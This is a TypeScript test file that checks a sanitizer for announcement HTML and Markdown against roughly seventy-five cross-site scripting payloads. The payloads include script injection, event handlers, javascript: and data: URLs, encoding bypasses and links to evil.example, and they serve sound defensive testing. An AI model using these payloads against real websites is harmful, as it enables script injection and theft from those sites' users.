/** Checks the HTML that announcements may contain, and that no script in one ever runs (D13, A76). */
import { describe, expect, it } from "vitest";
import { announcementText, renderAnnouncement } from "../../worker/adapters/announcement-html.ts";

const PAYLOADS = [
  "<script>hit()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>hit()</scr</script>ipt>",
  "<script\n>hit()</script\n>",
  "<img src=x onerror=hit()>",
  "<img/src/onerror=hit()>",
  "<img src=`x`onerror=hit()>",
  '<img src="x" onload="hit()">',
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate attributeName=href values=javascript:hit() /><a id=x><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
  "<iframe src=javascript:hit()></iframe>",
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  "<object data=javascript:hit()>",
  "<embed src=javascript:hit()>",
  "<body onload=hit()>",
  "<details open ontoggle=hit()>x</details>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()>",
  "<input autofocus onfocus=hit()>",
  "<form action=javascript:hit()><button>Go</button></form>",
  "<button formaction=javascript:hit()>Go</button>",
  "<select autofocus onfocus=hit()></select>",
  "<marquee onstart=hit()>x</marquee>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>body{background:url(javascript:hit())}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<base href="https://evil.example/">',
  "<template><script>hit()</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  "<!--><img src=x onerror=hit()>-->",
  "<![CDATA[<img src=x onerror=hit()>]]>",
  "<?xml version='1.0'?><script>hit()</script>",
  "<p style='position:fixed;inset:0' onclick=hit()>x</p>",
  '<a href="javascript:hit()">x</a>',
  "<xss onpointerenter=hit() style=display:block>x</xss>",
  "[x](javascript:hit())",
  "[x](JaVaScRiPt:hit())",
  "[x](java&#115;cript:hit())",
  "[x](javascript&colon;hit())",
  "[x](&#x6A;avascript:hit())",
  "[x](<java\tscript:hit()>)",
  "[x](\u0001javascript:hit())",
  "[x](vbscript:hit())",
  "[x](data:text/html,<script>hit()</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](http://evil.example)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "[x](https://goodstreet.example@evil.example)",
  '[x](https://a.example "onmouseover=hit()")',
  '[x](https://a.example" onmouseover="hit())',
  "[x][y]\n\n[y]: javascript:hit()",
  "<javascript:hit()>",
  "<data:text/html,x>",
  "![x](javascript:hit())",
  '![x" onerror="hit()](https://a.example/x.png)',
  "![<img src=x onerror=hit()>](x)",
  "![x][y]\n\n[y]: data:image/svg+xml,<svg/onload=hit()>",
  "`<img src=x onerror=hit()>`",
  "```html\n<script>hit()</script>\n```",
  '```" onmouseover="hit()\nx\n```',
  "    <script>hit()</script>",
  "# <img src=x onerror=hit()>",
  "> <script>hit()</script>",
  "- <script>hit()</script>",
  "*<script>hit()</script>*",
  "&lt;script&gt;hit()&lt;/script&gt;",
  "\\<script>hit()</script>",
  '<div id="main" name="cookie">x</div>',
  "[x](mailto:a@b.example?subject=x&bcc=all@b.example)",
];

const ALLOWED: Record<string, string[]> = {
  P: [],
  H2: [],
  H3: [],
  H4: [],
  UL: [],
  LI: [],
  BLOCKQUOTE: [],
  STRONG: [],
  EM: [],
  CODE: [],
  PRE: [],
  BR: [],
  HR: [],
  OL: ["start"],
  A: ["href", "rel"],
};

/** Shows the HTML in a page and triggers its event handlers and links. */
function shown(html: string) {
  let hits = 0;
  // Handlers in markup run in jsdom's own window, not in the test's.
  const { jsdom } = globalThis as unknown as { jsdom: { window: object } };
  Object.assign(jsdom.window, { hit: () => hits++ });
  const main = document.createElement("main");
  // Clicks must not navigate away from this page.
  main.addEventListener("click", (event) => event.preventDefault());
  document.body.replaceChildren(main);
  main.innerHTML = html;
  for (const element of main.querySelectorAll<HTMLElement>("*")) {
    for (const name of ["load", "error", "focus", "mouseover", "toggle"]) element.dispatchEvent(new Event(name));
    element.click();
  }
  return { main, hits: () => hits };
}

describe("renderAnnouncement", () => {
  it("is tested with at least sixty attacks", () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60);
  });

  it("is tested with a harness that detects a successful attack", () => {
    expect(shown("<img src=x onerror=hit()>").hits()).toBe(1);
    expect(shown("<p onclick=hit()>x</p>").hits()).toBe(1);
  });

  it.each(PAYLOADS)("%s: runs nothing and leaves only allowed elements (A74, A76)", (payload) => {
    for (const source of [payload, `Hello ${payload} world`, `**${payload}**`]) {
      const { main, hits } = shown(renderAnnouncement(source));
      for (const element of main.querySelectorAll("*")) {
        expect(Object.keys(ALLOWED), source).toContain(element.tagName);
        for (const name of element.getAttributeNames()) expect(ALLOWED[element.tagName], source).toContain(name);
        const href = element.getAttribute("href");
        if (href !== null) expect(href, source).toMatch(/^(https:\/\/[a-z.]+([/?#]|$)|mailto:[^?&]+$|\/(?![/\\]))/i);
      }
      expect(hits(), source).toBe(0);
    }
  });

  it("keeps the supported formatting, with headings one level below the page's own", () => {
    expect(renderAnnouncement("# News\n\nWe **opened** in *Hobart*.\n\n1. one\n2. two\n\n- a\n\n> quoted\n\n---")).toBe(
      "<h2>News</h2>\n<p>We <strong>opened</strong> in <em>Hobart</em>.</p>\n<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n" +
        "<ul>\n<li>a</li>\n</ul>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>",
    );
  });

  it("links to https, email addresses and own pages, and marks external links", () => {
    expect(renderAnnouncement("[a](https://acnc.gov.au/x)")).toBe(
      '<p><a href="https://acnc.gov.au/x" rel="noopener noreferrer">a</a></p>',
    );
    expect(renderAnnouncement("[a](/Requests)")).toBe('<p><a href="/Requests">a</a></p>');
    expect(renderAnnouncement("<help@goodstreet.example>")).toContain('href="mailto:help@goodstreet.example"');
    expect(renderAnnouncement("[a](http://plain.example)")).toBe("<p>a</p>");
  });

  it("replaces a picture by its alternative text", () => {
    expect(renderAnnouncement("![our street](https://a.example/x.png)")).toBe("<p>our street</p>");
  });

  it("handles pathological input of the maximum length", () => {
    for (const piece of ["[", "*", "> ", "<", "`", "- ", "![", "\\", "_a"]) {
      expect(typeof renderAnnouncement(piece.repeat(20_000 / piece.length))).toBe("string");
    }
  });
});

describe("announcementText", () => {
  it("returns the text without markup", () => {
    expect(announcementText("# News\n\nWe **opened** in [Hobart](/x).\n\n- one\n- two")).toBe(
      "News. We opened in Hobart. one. two.",
    );
  });
});
